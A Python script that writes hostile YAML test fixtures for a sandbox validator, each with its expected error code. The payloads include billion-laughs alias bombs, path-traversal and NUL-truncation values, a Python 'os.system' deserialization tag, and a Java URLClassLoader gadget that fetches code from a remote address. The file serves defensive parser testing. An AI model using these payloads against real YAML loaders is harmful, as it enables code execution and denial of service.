import os, sys, json, subprocess, re
# Writes the hostile samples (some hold bytes an editor would mangle). "generate.py fill" runs the built
# distribution and writes the line:col it reports into each header when the codes are the ones listed
# here; every location was then checked by hand against the file. The tests read the files, not this.
OUT = os.path.dirname(os.path.abspath(__file__))
SCHEMA = b'# yaml-language-server: $schema=../../sandbox.schema.json\n'

def base(n, extra=b'', process_extra=b''):
    return (b'apiVersion: sandbox/v1\nkind: Sandbox\nname: hostile-%02d\n' % n
            + b'process:\n  command: [/bin/true]\n' + process_extra + extra)

F = []  # (name, codes, description, body, prefix_bytes)
def add(name, codes, desc, body, prefix=b''):
    F.append((name, codes, desc, body, prefix))

n = lambda: len(F) + 1
# --- nesting and expansion
add('flow-nesting-2000', ['spec.too-deep'], 'Flow nesting 2000 levels deep (8 KB): a located error, not a StackOverflowError.',
    base(n(), b'x-deep: ' + b'[' * 2000 + b']' * 2000 + b'\n'))
add('flow-maps-nesting-2000', ['spec.too-deep'], 'Flow maps nested 2000 levels deep.',
    base(n(), b'x-deep: ' + b'{a: ' * 2000 + b'1' + b'}' * 2000 + b'\n'))
add('block-nesting-deep', ['spec.too-deep'], 'Block maps nested 100 levels deep.',
    base(n(), b''.join(b'  ' * i + b'k%d:\n' % i for i in range(100))))
add('block-lists-nesting-deep', ['spec.too-deep'], 'Block lists nested 100 levels deep.',
    base(n(), b'x-deep:\n' + b''.join(b'  ' * i + b'-\n' for i in range(100)) + b'  ' * 100 + b'- x\n'))
def laughs(kind):
    out = b'x-lol0: &l0 "lol"\n'
    for i in range(1, 10):
        refs = b', '.join(b'*l%d' % (i - 1) for _ in range(10))
        if kind == 'list': out += b'x-lol%d: &l%d [%s]\n' % (i, i, refs)
        else: out += b'x-lol%d: &l%d {%s}\n' % (i, i, b', '.join(b'k%d: *l%d' % (j, i - 1) for j in range(10)))
    return out
add('billion-laughs', ['spec.too-many-nodes'], 'Billion laughs: nine levels of ten aliases each would expand to 10^9 values.', base(n(), laughs('list')))
add('billion-laughs-maps', ['spec.too-many-nodes'], 'Billion laughs with maps.', base(n(), laughs('map')))
add('many-aliases', ['spec.too-many-aliases'], 'More aliases of collections than the bound.',
    base(n(), b'x-a: &a [1]\nx-b: [' + b', '.join([b'*a'] * 150) + b']\n'))
add('recursive-alias', ['spec.recursive-alias'], "The issue's recursive alias: the process refers to itself.",
    b'apiVersion: sandbox/v1\nkind: Sandbox\nname: hostile-%02d\nprocess: &p {command: [/bin/true], env: {X: *p}}\n' % n())
add('recursive-alias-list', ['spec.recursive-alias'], 'A list that contains itself.', base(n(), b'x-loop: &l [a, *l]\n'))
add('recursive-alias-deep', ['spec.recursive-alias'], 'A map that contains itself three levels down.',
    base(n(), b'x-loop: &top\n  a:\n    b:\n      c: *top\n'))
add('alias-resolves-to-list', ['schema.type', 'schema.type'], "An alias is its anchored value (not the anchor's name): a list where a string belongs, located at the alias.",
    base(n(), b'', b'  env: {A: &x [1, 2], B: *x}\n'))
add('alias-bad-hostname', ['uts.hostname-invalid'], "The anchored value is checked where the alias uses it.",
    base(n(), b'namespaces:\n  uts: {hostname: *h}\n', b'  env: {H: &h my_box}\n'))
add('undefined-alias', ['spec.undefined-alias'], 'An alias without an anchor.', base(n(), b'', b'  cwd: *nowhere\n'))
add('alias-before-anchor', ['spec.undefined-alias'], 'An alias used before its anchor is written.', base(n(), b'', b'  cwd: *later\n  env: {A: &later /}\n'))
add('root-is-alias', ['spec.undefined-alias'], 'The whole document is an alias.', b'*root\n')
# --- merges
add('merge-scalar', ['spec.bad-merge'], 'A merge key takes a map, not a number.', base(n(), b'', b'  <<: 5\n'))
add('merge-list-with-scalar', ['spec.bad-merge'], 'A merge list holds maps only.', base(n(), b'', b'  <<: [{cwd: /}, nope]\n'))
add('merge-twice', ['spec.duplicate-key'], 'Two merge keys in one map.', base(n(), b'', b'  <<: {cwd: /}\n  <<: {env: {}}\n'))
add('duplicate-keys-inside-merge', ['spec.duplicate-key'], 'A duplicate key inside the anchored map of a merge.',
    b'apiVersion: sandbox/v1\nkind: Sandbox\nname: hostile-%02d\nprocess:\n  <<: &common {command: [/bin/true], cwd: /, cwd: /tmp}\n' % n())
add('merge-brings-unknown-key', ['schema.unknown-key'], 'A merged key is checked like a written one, located where it is written.',
    b'apiVersion: sandbox/v1\nkind: Sandbox\nname: hostile-%02d\nprocess:\n  <<: {command: [/bin/true], bogus: 1}\n' % n())
add('merge-of-recursive', ['spec.recursive-alias'], 'A merge of the map being read.', base(n(), b'x-m: &m\n  a: 1\n  <<: *m\n'))
# --- encoding
add('invalid-utf8', ['spec.not-utf8'], 'A byte that is not UTF-8 (0xC3 followed by an ASCII byte).', base(n(), b'', b'  cwd: /caf\xc3(\n'))
add('latin1', ['spec.not-utf8'], 'A Latin-1 file: 0xE9 for e-acute.', base(n(), b'', b'  env: {NAME: Ren\xe9}\n'))
add('overlong-utf8', ['spec.not-utf8'], 'An overlong UTF-8 encoding of "/" (0xC0 0xAF), a classic path-traversal trick.', base(n(), b'', b'  cwd: /a\xc0\xafb\n'))
add('utf8-surrogate', ['spec.not-utf8'], 'A UTF-16 surrogate encoded as UTF-8 (0xED 0xA0 0x80).', base(n(), b'', b'  cwd: /\xed\xa0\x80\n'))
add('truncated-utf8', ['spec.not-utf8'], 'A multi-byte sequence cut off at the end of the file.', base(n(), b'', b'  cwd: /\xe2\x82'))
add('utf8-beyond-unicode', ['spec.not-utf8'], 'A 4-byte sequence above U+10FFFF (0xF4 0x90 ...).', base(n(), b'', b'  cwd: /\xf4\x90\x80\x80\n'))
add('nul-byte', ['spec.control-character'], 'A NUL byte inside a value.', base(n(), b'', b'  cwd: /tmp\x00/x\n'))
add('escape-character', ['spec.control-character'], 'A raw ESC (terminal escape sequence) in a value.', base(n(), b'', b'  env: {A: "\x1b[31mred"}\n'))
add('delete-character', ['spec.control-character'], 'A raw DEL character.', base(n(), b'', b'  cwd: /a\x7f\n'))
add('c1-control', ['spec.control-character'], 'A C1 control character (U+009B, CSI) encoded in UTF-8.', base(n(), b'', b'  cwd: /a\xc2\x9bb\n'))
add('bell-in-comment', ['spec.control-character'], 'A BEL character inside a comment.', base(n(), b'# ring \x07\n'))
add('utf16le-bom', ['spec.not-utf8'], 'A UTF-16LE file (byte-order mark FF FE).', b'', b'\xff\xfe')
add('utf16be-bom', ['spec.not-utf8'], 'A UTF-16BE file (byte-order mark FE FF).', b'', b'\xfe\xff')
add('utf32le-bom', ['spec.not-utf8'], 'A UTF-32LE file (byte-order mark FF FE 00 00).', b'', b'\xff\xfe\x00\x00')
add('utf8-bom-then-error', ['schema.unknown-key'], 'A UTF-8 byte-order mark is allowed; the error after it is located as if it were absent.',
    base(n(), b'bogus: 1\n'), b'\xef\xbb\xbf')
add('bom-inside', ['schema.unknown-key'], 'A byte-order mark in the middle of the file, before a key.', base(n(), b'\xef\xbb\xbfnamespaces: {}\n'))
# --- long lines, big numbers
add('overlong-comment-line', ['spec.line-too-long'], 'A comment line longer than 64 Ki characters.', base(n(), b'# ' + b'x' * 70000 + b'\n'))
add('overlong-value-line', ['spec.line-too-long'], 'A value longer than 64 Ki characters on one line.', base(n(), b'', b'  cwd: /' + b'a' * 70000 + b'\n'))
add('huge-integer', ['net.bad-mtu'], 'A 30-digit MTU.', base(n(), b'namespaces:\n  net:\n    links: [{type: veth, name: eth0, address: 198.18.0.2/30, mtu: 999999999999999999999999999999}]\n'))
add('inf-as-int', ['schema.type'], '.inf where an integer is expected.', base(n(), b'', b'  user: {uid: .inf}\n'))
add('nan-as-int', ['schema.type'], '.nan where an integer is expected.', base(n(), b'', b'  user: {gid: .nan}\n'))
add('negative-inf-mtu', ['schema.type'], '-.inf as an MTU.', base(n(), b'namespaces:\n  net:\n    links: [{type: veth, name: eth0, address: 198.18.0.2/30, mtu: -.inf}]\n'))
add('huge-float', ['net.bad-mtu'], 'A float with a 400-digit exponent where an integer is expected.', base(n(), b'namespaces:\n  net:\n    links: [{type: veth, name: eth0, address: 198.18.0.2/30, mtu: 1e400}]\n'))
# --- keys
add('key-is-a-map', ['spec.complex-key'], 'A key that is a map.', base(n(), b'? {a: 1}\n: x\n'))
add('key-is-a-list', ['spec.complex-key'], 'A key that is a list (flow).', base(n(), b'', b'  env: {[A, B]: x}\n'))
add('key-is-an-aliased-map', ['spec.complex-key'], 'An alias to a map used as a key.', base(n(), b'', b'  env: &e {A: b}\n') + b'namespaces: {*e : v}\n')
add('integer-key', ['schema.unknown-key'], 'A top-level key that is a number.', base(n(), b'42: answer\n'))
add('boolean-key', ['schema.unknown-key'], 'A namespace type written as yes (a boolean).', base(n(), b'namespaces:\n  yes: {}\n'))
add('null-key', ['schema.unknown-key'], 'A key that is null (~).', base(n(), b'~: nothing\n'))
# --- tags
add('binary-tag', ['spec.unsupported-tag'], 'A !!binary value.', base(n(), b'', b'  cwd: !!binary L3RtcA==\n'))
add('python-object-tag', ['spec.unsupported-tag'], 'A !!python/object tag (code execution in some loaders).', base(n(), b'', b'  cwd: !!python/object/apply:os.system ["id"]\n'))
add('java-object-tag', ['spec.unsupported-tag'], 'A Java class tag (code execution in unsafe loaders).',
    base(n(), b'x-gadget: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://198.18.0.1/"]]]]\n'))
add('local-tag', ['spec.unsupported-tag'], 'An application tag the spec does not know.', base(n(), b'', b'  cwd: !path /tmp\n'))
add('set-tag', ['spec.unsupported-tag'], 'A !!set (a map with null values in other loaders).', base(n(), b'', b'  env: !!set {A, B}\n'))
add('int-tag-on-text', ['spec.bad-tagged-value'], 'An !!int tag on text.', base(n(), b'', b'  user: {uid: !!int zero}\n'))
add('tag-directive', ['spec.unsupported-tag'], 'A %TAG directive that makes !x mean a Python tag.',
    b'%TAG !x! tag:yaml.org,2002:python/\n---\n' + base(n(), b'', b'  cwd: !x!object /tmp\n'))
add('yaml-2-directive', ['spec.syntax'], 'A %YAML directive for a version this reader does not speak.', b'%YAML 2.0\n---\n' + base(n()))
# --- documents and keys
add('multiple-documents', ['spec.multiple-documents'], 'Two documents in one file.', base(n()) + b'---\n' + base(n()))
add('document-end-then-more', ['spec.multiple-documents'], 'A document end marker and a second document.', base(n()) + b'...\n---\nname: again\n')
add('duplicate-keys-many', ['spec.duplicate-key'] * 3, 'Three keys written twice.',
    base(n(), b'name: twice\nkind: Sandbox\n', b'  command: [/bin/false]\n'))
add('duplicate-quoted-key', ['spec.duplicate-key'], 'A key written plain and quoted is still the same key.', base(n(), b'"name": again\n'))
add('duplicate-keys-flow', ['spec.duplicate-key'], 'A duplicate key in a flow map.', base(n(), b'', b'  env: {A: "1", B: "2", A: "3"}\n'))
# --- names and paths
add('name-path-traversal', ['schema.pattern'], 'A name that climbs out of the runtime dir.', b'apiVersion: sandbox/v1\nkind: Sandbox\nname: ../../etc\nprocess:\n  command: [/bin/true]\n')
add('name-with-slash', ['schema.pattern'], 'A name with a slash.', b'apiVersion: sandbox/v1\nkind: Sandbox\nname: a/b\nprocess:\n  command: [/bin/true]\n')
add('name-very-long', ['schema.pattern'], 'A name of 5000 characters.', b'apiVersion: sandbox/v1\nkind: Sandbox\nname: ' + b'h' * 5000 + b'\nprocess:\n  command: [/bin/true]\n')
add('name-with-newline', ['schema.pattern'], 'A name with an escaped newline.', b'apiVersion: sandbox/v1\nkind: Sandbox\nname: "hostile\\nname"\nprocess:\n  command: [/bin/true]\n')
add('name-with-nul-escape', ['spec.control-character'], 'A name with an escaped NUL.', b'apiVersion: sandbox/v1\nkind: Sandbox\nname: "hostile\\0"\nprocess:\n  command: [/bin/true]\n')
add('hostname-control-escape', ['uts.hostname-invalid'], 'A hostname with an escaped control character.', base(n(), b'namespaces:\n  uts: {hostname: "box\\x01"}\n'))
add('mount-target-relative-traversal', ['mount.relative-target'], 'A mount target that climbs with ../.',
    base(n(), b'namespaces:\n  mount:\n    mounts: [{type: tmpfs, target: ../../etc}]\n'))
add('env-name-with-equals-alias', ['process.bad-env-name'], 'An env name with "=" that comes through an alias.',
    base(n(), b'', b'  env: {X: &n "A=B", *n : x}\n'))
# --- shapes
add('spec-is-a-scalar', ['spec.not-a-map'], 'The whole spec is one string.', b'hello\n')
add('spec-is-null', ['spec.not-a-map'], 'The whole spec is null.', b'~\n')
add('command-is-a-map', ['schema.type'], 'The command is a map.', b'apiVersion: sandbox/v1\nkind: Sandbox\nname: hostile-%02d\nprocess:\n  command: {run: /bin/true}\n' % n())
add('unclosed-quote', ['spec.syntax'], 'A quote that never closes.', base(n(), b'', b'  cwd: "/tmp\n'))
add('tab-indent', ['spec.syntax'], 'A tab used for indentation.', base(n(), b'namespaces:\n\tuts: {}\n'))
add('many-values', ['spec.too-many-nodes'], 'Sixty thousand values in one list (about 400 KB).', base(n(), b'x-many:\n' + b''.join(b'- %d\n' % i for i in range(60000))))
# --- escaped NUL: C strings end there (execve, mount, setenv); a late, unlocated failure in the helper before
add('command-with-nul-escape', ['spec.control-character'], 'A command argument with an escaped NUL.',
    b'apiVersion: sandbox/v1\nkind: Sandbox\nname: hostile-%02d\nprocess:\n  command: ["/bin/echo\\0evil"]\n' % n())
add('mount-target-with-nul-escape', ['spec.control-character'], 'A mount target whose escaped NUL would cut it to /tmp.',
    base(n(), b'namespaces:\n  mount:\n    mounts: [{type: tmpfs, target: "/tmp\\x00/../etc"}]\n'))
add('env-name-with-nul-escape', ['spec.control-character'], 'An env name with an escaped NUL.', base(n(), b'', b'  env: {"A\\u0000B": x}\n'))

def header(codes, where):
    return b''.join(b'# expect: %s %s\n' % (w.encode(), c.encode()) for c, w in zip(codes, where))

def write(i, name, codes, desc, body, prefix, where):
    path = os.path.join(OUT, '%02d-%s.yaml' % (i, name))
    data = prefix + header(codes, where) + SCHEMA + b'# ' + desc.encode() + b'\n' + body
    with open(path, 'wb') as f: f.write(data)
    return path

for f in os.listdir(OUT):
    if f.endswith('.yaml'): os.remove(os.path.join(OUT, f))
paths = []
for i, (name, codes, desc, body, prefix) in enumerate(F, 1):
    paths.append(write(i, name, codes, desc, body, prefix, ['0:0'] * len(codes)))
print(len(F), 'files', file=sys.stderr)
if len(sys.argv) > 1 and sys.argv[1] == 'fill':
    dist = os.path.join(OUT, '../../../dist/target/sandbox/bin/sandbox')
    for i, (name, codes, desc, body, prefix) in enumerate(F, 1):
        p = paths[i - 1]
        r = subprocess.run([dist, 'validate', '--format', 'json', p], capture_output=True, timeout=120)
        try:
            d = json.loads(r.stdout)
        except Exception:
            print('!!', name, r.returncode, r.stdout[:300], r.stderr[:300]); continue
        errs = [x for x in d['diagnostics'] if x['severity'] == 'error']
        got = sorted(x['code'] for x in errs)
        if got != sorted(codes):
            print('MISMATCH', i, name, 'want', codes, 'got', [(x['code'], x['line'], x['column'], x['message'][:100]) for x in errs])
            continue
        errs.sort(key=lambda x: (x['line'], x['column']))
        where = ['%d:%d' % (x['line'], x['column']) for x in errs]
        cs = [x['code'] for x in errs]
        write(i, name, cs, desc, body, prefix, where)
        print('ok', i, name, list(zip(cs, where)), errs[0]['message'][:110])
